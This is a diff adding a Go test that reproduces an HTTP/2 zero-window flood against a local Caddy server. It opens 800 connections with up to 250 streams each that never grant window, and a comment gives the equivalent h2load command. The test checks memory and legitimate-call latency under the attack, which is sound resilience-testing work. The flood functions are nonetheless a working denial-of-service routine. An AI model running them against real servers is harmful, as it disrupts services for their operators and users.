@@ -1,0 +1,329 @@
+package frontal
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+
+	"github.com/arkforge/proveit-corpus/tools/probe"
+	"github.com/arkforge/proveit-corpus/tools/servertest"
+)
+
+// The HTTP/2 window attack: a client that advertises a zero stream window
+// and never sends WINDOW_UPDATE lets no response body leave the server, so
+// every stream it opens holds its handler, its buffers and its goroutine
+// until the write timeout. h2load does it with
+//
+//	h2load -c 800 -m 250 -n 100000 -w 0 -W 0 http://HOST/regles-achat
+//
+// which the flood below reproduces, without the secret.
+const (
+	floodConns    = 800
+	floodStreams  = 250     // streams a connection asks for at once
+	floodRequests = 100_000 // requests in all, shared between the connections
+	floodTarget   = "/regles-achat"
+	// floodHold is how long the streams are held open: the server's write
+	// timeout (10 s) is what ends them, so the peak is reached well before.
+	floodHold = 6 * time.Second
+	// The bounds the attack must stay under.
+	floodMemoryBound  = 512 << 20
+	floodAnswerBound  = time.Second
+	floodLegitCalls   = 5 // a protocol, during the attack
+	floodDialDeadline = 3 * time.Second
+)
+
+// floodTally counts what became of the attack's connections and streams.
+type floodTally struct {
+	dialed, dialFailed, closedEarly atomic.Int64 // closedEarly: closed by the server before any frame
+	opened, refused, answered       atomic.Int64 // streams: sent, reset by the server, answered with headers
+}
+
+// h2Flood runs the attack against addr until ctx ends.
+func h2Flood(ctx context.Context, addr, authority string, tally *floodTally) *sync.WaitGroup {
+	var wg sync.WaitGroup
+	perConn := floodRequests / floodConns
+	for range floodConns {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			floodOne(ctx, addr, authority, min(perConn, floodRequests), tally)
+		}()
+	}
+	return &wg
+}
+
+// floodOne is one connection of the attack: it opens up to floodStreams
+// streams, and a new one each time the server resets one, until it has sent
+// budget requests; it reads every frame and never grants a byte of window.
+func floodOne(ctx context.Context, addr, authority string, budget int, tally *floodTally) {
+	d := net.Dialer{Timeout: floodDialDeadline}
+	conn, err := d.DialContext(ctx, "tcp", addr)
+	if err != nil {
+		tally.dialFailed.Add(1)
+		return
+	}
+	tally.dialed.Add(1)
+	answered := false // by any frame: a connection refused at once gets none
+	defer func() {
+		if !answered {
+			tally.closedEarly.Add(1)
+		}
+	}()
+	stop := context.AfterFunc(ctx, func() { conn.Close() })
+	defer stop()
+	defer conn.Close()
+
+	var mu sync.Mutex // the framer's writes: the reader acknowledges, the writer opens streams
+	fr := http2.NewFramer(conn, conn)
+	var block bytes.Buffer
+	enc := hpack.NewEncoder(&block)
+	nextID, sent := uint32(1), 0
+	open := func(n int) error {
+		mu.Lock()
+		defer mu.Unlock()
+		for ; n > 0 && sent < budget; n-- {
+			block.Reset()
+			for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", authority}, {":path", floodTarget}} {
+				_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // to memory: cannot fail
+			}
+			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: nextID, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
+				return err
+			}
+			nextID += 2
+			sent++
+			tally.opened.Add(1)
+		}
+		return nil
+	}
+	mu.Lock()
+	_, err = io.WriteString(conn, http2.ClientPreface)
+	if err == nil {
+		err = fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
+	}
+	mu.Unlock()
+	if err == nil {
+		err = open(floodStreams)
+	}
+	if err != nil {
+		return
+	}
+	for {
+		frame, err := fr.ReadFrame()
+		if err != nil {
+			return
+		}
+		answered = true
+		switch f := frame.(type) {
+		case *http2.SettingsFrame:
+			if !f.IsAck() {
+				mu.Lock()
+				err = fr.WriteSettingsAck()
+				mu.Unlock()
+			}
+		case *http2.PingFrame:
+			if !f.IsAck() {
+				mu.Lock()
+				err = fr.WritePing(true, f.Data)
+				mu.Unlock()
+			}
+		case *http2.HeadersFrame:
+			tally.answered.Add(1)
+		case *http2.RSTStreamFrame:
+			tally.refused.Add(1)
+			err = open(1)
+		case *http2.GoAwayFrame:
+			return
+		}
+		if err != nil {
+			return
+		}
+	}
+}
+
+// legitClients are the calls Trust Layer would make during the attack, over
+// HTTP/1.1 and over h2c, each on a fresh connection from source: another
+// address than the attacker's where the system has one.
+func legitClients(source net.Addr) map[string]*http.Client {
+	dialer := &net.Dialer{LocalAddr: source, Timeout: 5 * time.Second}
+	return map[string]*http.Client{
+		"HTTP/1.1": {Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: dialer.DialContext, DisableKeepAlives: true}},
+		"h2c": {Timeout: 10 * time.Second, Transport: &http2.Transport{AllowHTTP: true,
+			DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
+				return dialer.DialContext(ctx, network, addr)
+			}}},
+	}
+}
+
+// legitSource is 127.0.0.2 where the loopback answers it (Linux routes all
+// of 127/8 there), else the attacker's own address.
+func legitSource() (net.Addr, string) {
+	addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}
+	if l, err := net.ListenTCP("tcp", addr); err == nil {
+		l.Close()
+		return addr, "127.0.0.2"
+	}
+	return nil, "127.0.0.1"
+}
+
+// legitCall times one call with the secret and checks its bytes.
+func legitCall(client *http.Client, url, secret string, want []byte) (time.Duration, error) {
+	req, err := http.NewRequest(http.MethodGet, url, nil)
+	if err != nil {
+		return 0, err
+	}
+	req.Header.Set(probe.SecretHeader, secret)
+	start := time.Now()
+	resp, err := client.Do(req)
+	if err != nil {
+		return time.Since(start), err
+	}
+	defer resp.Body.Close()
+	body, err := io.ReadAll(resp.Body)
+	elapsed := time.Since(start)
+	switch {
+	case err != nil:
+		return elapsed, err
+	case resp.StatusCode != http.StatusOK || !bytes.Equal(body, want):
+		return elapsed, fmt.Errorf("status %d, %d bytes: not the resource", resp.StatusCode, len(body))
+	}
+	return elapsed, nil
+}
+
+// TestH2WindowFlood runs the window attack at 800 connections against Caddy
+// alone, serving HTTP/1.1 and h2c as an operator who switched HTTP/2 on
+// would, and holds it to its bounds: the server's resident memory stays
+// under 512 MB, and calls with the secret, from another address, answer
+// right within a second while the attack lasts.
+func TestH2WindowFlood(t *testing.T) {
+	secret := newSecrets(t, 1)[0]
+	s := servertest.Start(t, servertest.Options{Secrets: []string{secret}, Lifetime: 2 * time.Minute})
+	source, sourceName := legitSource()
+	clients := legitClients(source)
+	url := s.URL + floodTarget
+	want := func() []byte {
+		client := clients["HTTP/1.1"]
+		req, err := http.NewRequest(http.MethodGet, url, nil)
+		require.NoError(t, err)
+		req.Header.Set(probe.SecretHeader, secret)
+		resp, err := client.Do(req)
+		require.NoError(t, err)
+		defer resp.Body.Close()
+		body, err := io.ReadAll(resp.Body)
+		require.NoError(t, err)
+		require.Equal(t, http.StatusOK, resp.StatusCode)
+		return body
+	}()
+	before := s.RSS()
+	require.NotZero(t, before, "the server's resident memory is readable (/proc)")
+
+	ctx, cancel := context.WithTimeout(context.Background(), floodHold)
+	defer cancel()
+	tally := &floodTally{}
+	start := time.Now()
+	attack := h2Flood(ctx, fmt.Sprintf("127.0.0.1:%d", s.Port), fmt.Sprintf("127.0.0.1:%d", s.Port), tally)
+
+	var peak atomic.Int64
+	sampled := make(chan struct{})
+	go func() {
+		defer close(sampled)
+		tick := time.NewTicker(50 * time.Millisecond)
+		defer tick.Stop()
+		for {
+			peak.Store(max(peak.Load(), s.RSS()))
+			select {
+			case <-ctx.Done():
+				return
+			case <-tick.C:
+			}
+		}
+	}()
+
+	// The calls start once the attack has had a second to open its streams.
+	time.Sleep(time.Second)
+	slowest := map[string]time.Duration{}
+	var failures []string
+	for i := range floodLegitCalls {
+		for _, proto := range []string{"HTTP/1.1", "h2c"} {
+			elapsed, err := legitCall(clients[proto], url, secret, want)
+			slowest[proto] = max(slowest[proto], elapsed)
+			if err != nil {
+				failures = append(failures, fmt.Sprintf("%s call %d: %v", proto, i+1, err))
+			}
+		}
+		time.Sleep(500 * time.Millisecond)
+	}
+	<-ctx.Done()
+	attack.Wait()
+	<-sampled
+	elapsed := time.Since(start)
+	peakRSS := peak.Load()
+	t.Logf("window flood: %d connections dialled (%d failed, %d closed by the server at once), %d streams sent, "+
+		"%d answered with headers, %d reset; server RSS %d MB before, peak %d MB; slowest call with the secret from %s: "+
+		"HTTP/1.1 %s, h2c %s",
+		tally.dialed.Load(), tally.dialFailed.Load(), tally.closedEarly.Load(), tally.opened.Load(), tally.answered.Load(),
+		tally.refused.Load(), before>>20, peakRSS>>20, sourceName, slowest["HTTP/1.1"], slowest["h2c"])
+
+	assert.Empty(t, failures, "calls with the secret during the attack")
+	assert.Less(t, peakRSS, int64(floodMemoryBound), "the server's resident memory under the attack")
+	for proto, d := range slowest {
+		assert.Less(t, d, floodAnswerBound, "%s call with the secret during the attack", proto)
+	}
+	figures.setFlood(floodFigures{
+		conns: floodConns, streams: floodStreams, requests: floodRequests, hold: floodHold, elapsed: elapsed,
+		dialed: tally.dialed.Load(), dialFailed: tally.dialFailed.Load(), closedEarly: tally.closedEarly.Load(),
+		opened: tally.opened.Load(), answered: tally.answered.Load(), refused: tally.refused.Load(),
+		rssBefore: before, rssPeak: peakRSS, source: sourceName, calls: floodLegitCalls,
+		slowestH1: slowest["HTTP/1.1"], slowestH2: slowest["h2c"], failures: len(failures),
+	})
+}
+
+// floodFigures are what TestH2WindowFlood measured, for the report.
+type floodFigures struct {
+	conns, streams, requests                                   int
+	hold, elapsed                                              time.Duration
+	dialed, dialFailed, closedEarly, opened, answered, refused int64
+	rssBefore, rssPeak                                         int64
+	source                                                     string
+	calls, failures                                            int
+	slowestH1, slowestH2                                       time.Duration
+}
+
+func (f *reportFigures) setFlood(x floodFigures) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.flood = &x
+}
+
+// writeFlood renders the window attack's figures.
+func (f *reportFigures) writeFlood(p func(string, ...any)) {
+	x := f.flood
+	p("## HTTP/2: the window attack")
+	p("")
+	p("`TestH2WindowFlood` runs against Caddy alone, serving HTTP/1.1 and h2c, what `h2load -c %d -m %d -n %d -w 0 -W 0` "+
+		"does: %d connections, each asking for up to %d streams of `GET %s` without the secret, %d requests in all, a zero "+
+		"stream window and never a WINDOW_UPDATE, so that no response body can leave the server. The attack lasted %s.",
+		x.conns, x.streams, x.requests, x.conns, x.streams, floodTarget, x.requests, ms(x.hold))
+	p("")
+	p("| connections dialled | refused at once | streams sent | answered with headers | reset by the server | "+
+		"server RSS before | peak RSS | slowest of %d calls with the secret, HTTP/1.1 | same, h2c | calls failed |", x.calls)
+	p("|---|---|---|---|---|---|---|---|---|---|")
+	p("| %d (%d failed) | %d | %d | %d | %d | %d MB | %d MB | %s | %s | %d |", x.dialed, x.dialFailed, x.closedEarly,
+		x.opened, x.answered, x.refused, x.rssBefore>>20, x.rssPeak>>20, ms(x.slowestH1), ms(x.slowestH2), x.failures)
+	p("")
+	p("The calls with the secret came from %s, on fresh connections, while the attack held its streams open. "+
+		"The test requires a peak under %d MB and every call answered with the resource's bytes within %s.",
+		x.source, floodMemoryBound>>20, ms(floodAnswerBound))
+}
